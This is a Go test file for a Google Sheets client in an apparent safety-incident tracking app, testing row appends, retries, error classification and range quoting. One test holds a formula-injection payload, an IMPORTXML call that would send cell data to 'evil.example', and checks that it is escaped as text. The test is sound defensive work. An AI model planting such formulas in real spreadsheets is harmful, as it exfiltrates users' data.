package google

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	goption "google.golang.org/api/option"
	"google.golang.org/api/googleapi"

	"hse/internal/core"
	applog "hse/internal/log"
	"hse/internal/sheets"
)

func newTestClient(t *testing.T, handler http.HandlerFunc) *Client {
	t.Helper()
	srv := httptest.NewServer(handler)
	t.Cleanup(srv.Close)

	logger := applog.New(applog.Config{Handler: slog.NewTextHandler(io.Discard, nil)})
	c, err := NewWithOptions(context.Background(), "sheet-id", logger,
		goption.WithEndpoint(srv.URL+"/"),
		goption.WithHTTPClient(srv.Client()))
	if err != nil {
		t.Fatalf("NewWithOptions() error = %v", err)
	}
	c.retryWait = func(int) time.Duration { return 0 }
	return c
}

func TestNew_MissingCredentials(t *testing.T) {
	_, err := New(context.Background(), Config{SpreadsheetID: "sheet-id"}, nil)
	if err == nil || !strings.Contains(err.Error(), "missing service account credentials") {
		t.Fatalf("New() error = %v, want missing credentials", err)
	}
}

func TestNew_UnreadableCredentialsFile(t *testing.T) {
	_, err := New(context.Background(), Config{SpreadsheetID: "sheet-id", CredentialsFile: "/does/not/exist.json"}, nil)
	if err == nil || !strings.Contains(err.Error(), "read service account file") {
		t.Fatalf("New() error = %v, want read error", err)
	}
}

func TestNewWithOptions_MissingSpreadsheetID(t *testing.T) {
	_, err := NewWithOptions(context.Background(), "  ", nil, goption.WithoutAuthentication())
	if err == nil || err.Error() != "missing spreadsheet id" {
		t.Fatalf("NewWithOptions() error = %v", err)
	}
}

func TestAppendRows(t *testing.T) {
	var gotPath, gotInput, gotInsert string
	var gotBody struct {
		Values [][]any `json:"values"`
	}
	c := newTestClient(t, func(w http.ResponseWriter, r *http.Request) {
		gotPath = r.URL.Path
		gotInput = r.URL.Query().Get("valueInputOption")
		gotInsert = r.URL.Query().Get("insertDataOption")
		if err := json.NewDecoder(r.Body).Decode(&gotBody); err != nil {
			t.Errorf("decode body: %v", err)
		}
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, `{"spreadsheetId":"sheet-id","updates":{"updatedRange":"'Training Sessions'!A2:F3","updatedRows":2}}`)
	})

	ref, err := c.AppendRows(context.Background(), "Training Sessions", [][]any{
		{1, "2024-01-02", "Fire Safety", "internal", 12, "HSE Team"},
		{2, "2024-01-03", "First Aid", "external", 8, "Red Cross"},
	})
	if err != nil {
		t.Fatalf("AppendRows() error = %v", err)
	}
	if ref != "'Training Sessions'!A2:F3" {
		t.Errorf("ref = %q", ref)
	}
	if want := "/v4/spreadsheets/sheet-id/values/'Training Sessions'!A1:append"; gotPath != want {
		t.Errorf("path = %q, want %q", gotPath, want)
	}
	if gotInput != "USER_ENTERED" || gotInsert != "INSERT_ROWS" {
		t.Errorf("options = %q/%q, want USER_ENTERED/INSERT_ROWS", gotInput, gotInsert)
	}
	if len(gotBody.Values) != 2 || gotBody.Values[1][2] != "First Aid" {
		t.Errorf("body values = %v", gotBody.Values)
	}
}

func TestAppendRows_FormulaTextIsSentAsText(t *testing.T) {
	var gotBody struct {
		Values [][]any `json:"values"`
	}
	c := newTestClient(t, func(w http.ResponseWriter, r *http.Request) {
		if err := json.NewDecoder(r.Body).Decode(&gotBody); err != nil {
			t.Errorf("decode body: %v", err)
		}
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, `{"updates":{"updatedRange":"Incidents!A2:K2"}}`)
	})

	formula := `=IMPORTXML("http://evil.example/?d="&A1,"//a")`
	row := sheets.IncidentRow(core.Incident{
		ID:            7,
		Date:          core.NewDate(2024, 5, 1),
		Type:          "Near Miss",
		Activity:      "+SUM(A1:A9)",
		Description:   formula,
		SeverityLevel: 2,
		Place:         "@Gate 3",
	})
	if _, err := c.AppendRows(context.Background(), sheets.TabIncidents, [][]any{row}); err != nil {
		t.Fatalf("AppendRows() error = %v", err)
	}

	if len(gotBody.Values) != 1 {
		t.Fatalf("body values = %v", gotBody.Values)
	}
	got := gotBody.Values[0]
	want := map[int]any{
		1: "2024-05-01",
		2: "Near Miss",
		3: "'+SUM(A1:A9)",
		4: "'" + formula,
		5: float64(2),
		7: "'@Gate 3",
	}
	for i, w := range want {
		if got[i] != w {
			t.Errorf("cell %d = %#v, want %#v", i, got[i], w)
		}
	}
	if row[4] != formula {
		t.Errorf("caller's row was modified: %v", row[4])
	}
}

func TestAppendRows_NoRows(t *testing.T) {
	var calls atomic.Int32
	c := newTestClient(t, func(w http.ResponseWriter, r *http.Request) { calls.Add(1) })

	ref, err := c.AppendRows(context.Background(), "Incidents", nil)
	if err != nil || ref != "" {
		t.Fatalf("AppendRows(nil) = %q, %v", ref, err)
	}
	if calls.Load() != 0 {
		t.Errorf("expected no API call, got %d", calls.Load())
	}
}

func TestAppendRows_RetriesServerErrors(t *testing.T) {
	var calls atomic.Int32
	c := newTestClient(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		if calls.Add(1) == 1 {
			w.WriteHeader(http.StatusServiceUnavailable)
			_, _ = io.WriteString(w, `{"error":{"code":503,"message":"backend unavailable"}}`)
			return
		}
		_, _ = io.WriteString(w, `{"updates":{"updatedRange":"Incidents!A2:K2"}}`)
	})

	ref, err := c.AppendRows(context.Background(), "Incidents", [][]any{{1}})
	if err != nil {
		t.Fatalf("AppendRows() error = %v", err)
	}
	if ref != "Incidents!A2:K2" {
		t.Errorf("ref = %q", ref)
	}
	if calls.Load() < 2 {
		t.Errorf("calls = %d, want a retry", calls.Load())
	}
}

func TestAppendRows_ClientErrorIsNotRetried(t *testing.T) {
	var calls atomic.Int32
	c := newTestClient(t, func(w http.ResponseWriter, r *http.Request) {
		calls.Add(1)
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusBadRequest)
		_, _ = io.WriteString(w, `{"error":{"code":400,"message":"Unable to parse range"}}`)
	})

	_, err := c.AppendRows(context.Background(), "Missing", [][]any{{1}})
	var apiErr *googleapi.Error
	if !errors.As(err, &apiErr) || apiErr.Code != http.StatusBadRequest {
		t.Fatalf("AppendRows() error = %v, want googleapi 400", err)
	}
	if !errors.Is(err, sheets.ErrRejected) {
		t.Errorf("AppendRows() error = %v, want it marked as rejected", err)
	}
	if calls.Load() != 1 {
		t.Errorf("calls = %d, want 1", calls.Load())
	}
}

func TestMarkRejected(t *testing.T) {
	tests := []struct {
		name string
		err  error
		want bool
	}{
		{"bad request", &googleapi.Error{Code: http.StatusBadRequest}, true},
		{"forbidden", fmt.Errorf("wrapped: %w", &googleapi.Error{Code: http.StatusForbidden}), true},
		{"rate limited", &googleapi.Error{Code: http.StatusTooManyRequests}, false},
		{"server error", &googleapi.Error{Code: http.StatusBadGateway}, false},
		{"network error", errors.New("connection reset by peer"), false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := errors.Is(markRejected(tt.err), sheets.ErrRejected); got != tt.want {
				t.Errorf("markRejected(%v) rejected = %v, want %v", tt.err, got, tt.want)
			}
		})
	}
}

func TestReadHeader(t *testing.T) {
	tests := []struct {
		name string
		body string
		want []string
	}{
		{"empty tab", `{"range":"Incidents!A1:Z1","majorDimension":"ROWS"}`, nil},
		{"header row", `{"range":"Incidents!A1:Z1","values":[["ID"," Date ",3]]}`, []string{"ID", "Date", "3"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var gotPath string
			c := newTestClient(t, func(w http.ResponseWriter, r *http.Request) {
				gotPath = r.URL.Path
				w.Header().Set("Content-Type", "application/json")
				_, _ = io.WriteString(w, tt.body)
			})

			got, err := c.ReadHeader(context.Background(), "Incidents")
			if err != nil {
				t.Fatalf("ReadHeader() error = %v", err)
			}
			if gotPath != "/v4/spreadsheets/sheet-id/values/Incidents!1:1" {
				t.Errorf("path = %q", gotPath)
			}
			if strings.Join(got, "|") != strings.Join(tt.want, "|") || len(got) != len(tt.want) {
				t.Errorf("ReadHeader() = %v, want %v", got, tt.want)
			}
		})
	}
}

func TestA1Range(t *testing.T) {
	tests := []struct {
		tab, cells, want string
	}{
		{"Incidents", "A1", "Incidents!A1"},
		{"Training Sessions", "1:1", "'Training Sessions'!1:1"},
		{"Bob's tab", "A1", "'Bob''s tab'!A1"},
		{"2024_data", "A1", "2024_data!A1"},
	}
	for _, tt := range tests {
		if got := a1Range(tt.tab, tt.cells); got != tt.want {
			t.Errorf("a1Range(%q, %q) = %q, want %q", tt.tab, tt.cells, got, tt.want)
		}
	}
}
